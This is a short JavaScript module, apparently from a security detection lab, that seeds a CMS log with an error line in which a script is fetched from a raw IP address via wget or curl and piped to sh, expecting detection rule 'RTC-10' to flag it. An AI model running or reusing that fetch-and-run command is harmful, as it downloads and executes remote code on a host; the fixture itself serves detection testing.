import { logLine } from '../lib/seed.mjs';

/** @type {import('../lib/seed.mjs').Defect} */
export const defect = {
  id: 'log-with-fetch-and-run',
  title: 'The log of the CMS has a download piped to a shell',
  expects: ['RTC-10'],
  apply: (lab) =>
    logLine(
      lab,
      'cms',
      'Error: Command failed: (wget -qO- http://51.81.104.115/1.sh || curl -s http://51.81.104.115/1.sh) | sh',
    ),
};
